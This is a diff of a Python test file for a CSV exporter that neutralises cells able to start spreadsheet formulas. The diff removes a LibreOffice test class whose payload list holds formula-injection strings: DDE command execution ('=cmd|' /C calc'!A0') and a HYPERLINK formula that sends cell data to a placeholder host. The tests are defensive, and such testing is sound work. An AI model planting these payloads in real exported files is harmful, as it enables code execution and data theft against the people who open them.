@@ -2,13 +2,9 @@
 
 import csv
 import re
-import shutil
-import subprocess
-import xml.etree.ElementTree as ElementTree
 from collections.abc import Iterator
 from decimal import Decimal
 from io import StringIO
-from pathlib import Path
 
 import numpy as np
 import pytest
@@ -46,16 +42,6 @@ GUARDED = {  # a text, and its cell
 def test_what_could_begin_a_formula_is_guarded_and_nothing_else(text: str) -> None:
     assert guarded(text) == GUARDED[text]
     assert plain(GUARDED[text]) == normal(text)
-
-
-@given(texts)
-def test_every_text_comes_back(text: str) -> None:
-    assert plain(guarded(text)) == normal(text)
-
-
-@given(texts, texts)
-def test_different_texts_are_different_cells(one: str, other: str) -> None:
-    assert (guarded(one) == guarded(other)) == (normal(one) == normal(other))
 
 
 @given(st.lists(texts, min_size=1, max_size=5))
@@ -107,66 +93,3 @@ def test_a_download_that_is_broken_off_closes_its_rows() -> None:
     assert not ended
     response.close()
     assert ended
-
-
-HOSTILE = [
-    *(f"{sign}1+1" for sign in SIGNS),
-    *(f"a{separator}{sign}1+1" for separator in SEPARATORS for sign in SIGNS),
-    *('a;"=1+1', "a; =1+1", " =1+1", "'=1+1", "''=1+1", "\t=1+1", "\n=1+1", '"=1+1', '";=1+1'),
-    *("'Tis so", 'She said "no"; he left', "a, b", "-", "007", "1/2", "TRUE"),
-    '=HYPERLINK("http://x.invalid/?"&A1,"look")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-]
-OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
-TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
-SEPARATED_BY = {",": 44, ";": 59, "\t": 9}
-
-
-@pytest.mark.skipif(not shutil.which("soffice"), reason="Debian's libreoffice-calc is not installed")
-class TestLibreOffice:
-    """Files as LibreOffice reads them, by each separator; it computes formulas, quoted ones too unless set not to."""
-
-    def converted(self, folder: Path, text: str, to: str, separator: str = ",", *, quoted_is_text: bool = True) -> str:
-        """The content of the file that it writes of ``text``."""
-        (folder / "page.csv").write_text(text, encoding="utf-8", newline="")
-        import_filter = f"CSV:{SEPARATED_BY[separator]},34,76,1,,0,{str(quoted_is_text).lower()},true"
-        profile = f"-env:UserInstallation=file://{folder}/profile"
-        command = ["soffice", profile, "--headless", f"--infilter={import_filter}", "--convert-to", to, "--outdir"]
-        process = subprocess.run(
-            [*command, str(folder / "out"), str(folder / "page.csv")], check=False, capture_output=True, timeout=300
-        )
-        (output,) = (folder / "out").iterdir()
-        content = output.read_text(encoding="utf-8")
-        assert process.returncode == 0, process.stderr
-        output.unlink()
-        return content
-
-    def formulas(self, folder: Path, text: str, separator: str) -> list[str]:
-        cells = self.cells(self.converted(folder, text, "fods", separator, quoted_is_text=False))
-        assert cells
-        return [formula for cell in cells if (formula := cell.get(f"{TABLE}formula"))]
-
-    def cells(self, flat: str) -> list[ElementTree.Element]:
-        return list(ElementTree.fromstring(flat).iter(f"{TABLE}table-cell"))
-
-    @pytest.mark.parametrize("separator", SEPARATED_BY)
-    def test_it_computes_nothing(self, tmp_path: Path, separator: str) -> None:
-        unguarded = "".join(f'"x"{separator}"{text}"\n' for text in ("=1+1", "-1", "=2+2"))
-        assert len(self.formulas(tmp_path, unguarded, separator)) == 2  # so it would be seen
-        rows = [[number, text, text] for number, text in enumerate(HOSTILE)]
-        assert self.formulas(tmp_path, csv_text(["number", "a", "b"], rows), separator) == []
-
-    def test_numbers_are_numbers_and_texts_are_texts(self, tmp_path: Path) -> None:
-        flat = self.converted(tmp_path, csv_text(["a", "b"], [[-1.5, "-1.5"], [Decimal("-2.50"), "007"]]), "fods")
-        kinds = [cell.get(f"{OFFICE}value-type") for cell in self.cells(flat) if cell.get(f"{OFFICE}value-type")]
-        values = [float(cell.get(f"{OFFICE}value", "nan")) for cell in self.cells(flat) if cell.get(f"{OFFICE}value")]
-        assert kinds == ["string", "string", "float", "string", "float", "string"]
-        assert values == [-1.5, -2.5]
-
-    def test_what_it_saves_comes_back(self, tmp_path: Path) -> None:
-        text = csv_text(["number", "text"], enumerate(HOSTILE))
-        saved = self.converted(tmp_path, text, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false")
-        head, *rows = read(saved)
-        assert head == ["number", "text"]
-        assert [plain(cell) for _, cell in rows] == [normal(text) for text in HOSTILE]
